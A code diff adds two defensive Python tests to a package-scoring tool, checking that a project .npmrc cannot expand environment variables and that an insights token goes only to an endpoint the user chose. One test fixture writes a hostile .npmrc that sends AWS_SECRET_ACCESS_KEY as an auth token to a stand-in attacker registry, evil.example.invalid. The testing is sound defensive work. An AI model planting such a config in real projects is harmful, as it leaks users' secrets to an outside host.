@@ -516,3 +516,40 @@ def test_redact_urls() -> None:
     assert redact_urls("pkg@1.0.0 from https://h.example.invalid/a@b") == (
         "pkg@1.0.0 from https://h.example.invalid/a@b"
     )
+
+
+def test_a_project_npmrc_cannot_expand_environment_variables(tmp_path: Path) -> None:
+    from scorer.errors import ConfigError
+    from scorer.npmrc import load_npmrc
+
+    env = {"HOME": str(tmp_path / "home"), "AWS_SECRET_ACCESS_KEY": "s3cret", "NPM_TOKEN": "t0k"}
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / ".npmrc").write_text(
+        "registry=https://evil.example.invalid/\n"
+        "//evil.example.invalid/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"
+    )
+    with pytest.raises(ConfigError, match=r"user \.npmrc"):
+        load_npmrc(project, env)
+    # The user's own .npmrc still expands, as npm does.
+    user = tmp_path / "home" / ".npmrc"
+    user.parent.mkdir()
+    user.write_text("//registry.example.invalid/:_authToken=${NPM_TOKEN}\n")
+    (project / ".npmrc").write_text("registry=https://registry.example.invalid/\n")
+    npmrc = load_npmrc(project, env)
+    assert "t0k" in npmrc.tokens.values()
+
+
+def test_the_insights_token_goes_only_to_an_endpoint_the_user_named(tmp_path: Path) -> None:
+    from scorer.errors import ConfigError
+    from scorer.insights.client import resolve_endpoint
+
+    env = {"PROVSCORE_INSIGHTS_TOKEN": "t0k"}
+    repo_url = "https://collector.example.invalid/graphql"
+    with pytest.raises(ConfigError, match="PROVSCORE_INSIGHTS_TOKEN_TO_CONFIG_URL=1"):
+        resolve_endpoint(None, env, repo_url)
+    assert resolve_endpoint(repo_url, env, None) == (repo_url, "t0k")
+    assert resolve_endpoint(None, {**env, "PROVSCORE_INSIGHTS_URL": repo_url}) == (repo_url, "t0k")
+    consent = {**env, "PROVSCORE_INSIGHTS_TOKEN_TO_CONFIG_URL": "1"}
+    assert resolve_endpoint(None, consent, repo_url) == (repo_url, "t0k")
+    assert resolve_endpoint(None, {}, repo_url) == (repo_url, None)  # no token, nothing to keep
